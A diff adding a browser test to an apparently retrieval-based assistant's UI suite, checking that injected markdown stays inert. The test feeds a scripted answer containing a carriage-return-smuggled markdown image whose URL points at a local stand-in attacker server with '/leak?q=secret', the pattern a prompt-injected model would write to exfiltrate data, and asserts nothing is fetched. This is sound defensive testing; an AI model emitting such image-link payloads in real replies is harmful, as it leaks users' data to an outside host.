@@ -7,7 +7,9 @@ Without the browser the tests skip, unless CI is set, where a missing browser is
 from __future__ import annotations
 
 import os
+import threading
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 from urllib.parse import urlsplit
 
@@ -99,6 +101,66 @@ def test_example_question_then_clear(page: Any) -> None:
     page.wait_for_selector("#sources-panel .sources-empty", timeout=5_000)
     assert page.locator("#chat .answer").count() == 0
     assert page.elsewhere == []
+
+
+@pytest.fixture
+def outside() -> Iterator[tuple[str, list[str]]]:
+    """A server standing in for an attacker's, on its own loopback port: (its URL, the paths it was asked for)."""
+    heard: list[str] = []
+
+    class Listener(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            heard.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}", heard
+    server.shutdown()
+    server.server_close()
+
+
+def test_markdown_smuggled_after_a_carriage_return_stays_text_and_fetches_nothing(
+    browser: Any, built_index: Any, local_embedder: Any, outside: tuple[str, list[str]]
+) -> None:
+    # What an injected prompt would have a model write: a blank line ("\r\r"), then an image whose URL carries data.
+    from rag import Assistant
+    from tests.conftest import CORPUS_DIR
+    from tests.fakes import ScriptedAnswerer
+    from tests.ui_helpers import serve
+
+    address, heard = outside
+    leak = f"![x]({address}/leak?q=secret)"
+    answerer = ScriptedAnswerer(
+        f"Small caps look cheap.\r\r{leak} [1]", title=f"Caps\r\r{leak}", notice=f"Note.\r\r{leak}"
+    )
+    assistant = Assistant(data_dir=built_index, corpus_dir=CORPUS_DIR, show_progress=False, embedder=local_embedder,
+                          answerer=answerer)  # fmt: skip
+    app, url = serve(assistant)
+    context = browser.new_context(viewport={"width": 1440, "height": 900})
+    try:
+        page = context.new_page()
+        elsewhere: list[str] = []
+        page.on("request", lambda r: r.url.startswith(("data:", "blob:")) or urlsplit(r.url).netloc == urlsplit(url).netloc
+                or elsewhere.append(r.url))  # fmt: skip
+        page.goto(url)
+        page.wait_for_selector("#question textarea")
+        page.fill("#question textarea", CORPUS_QUESTION)
+        page.keyboard.press("Enter")
+        page.wait_for_selector("#chat .answer:not(.pending):not(.streaming) .meta", timeout=ANSWER_TIMEOUT_MS)
+
+        reply = page.locator("#chat .answer").last
+        assert reply.locator("a.cite").evaluate_all("els => els.map(e => e.getAttribute('href'))") == ["#src-0-1"]
+        assert leak in reply.inner_text() and 'class="cite"' not in reply.inner_text()  # shown as text, not run
+        assert page.locator(f'#chat [src*="{address}"], #chat [href*="{address}"]').count() == 0
+        assert elsewhere == [] and heard == []
+    finally:
+        context.close()
+        app.close()
 
 
 # Records, while a reply streams, each length its text reaches: several lengths = it arrived in pieces.
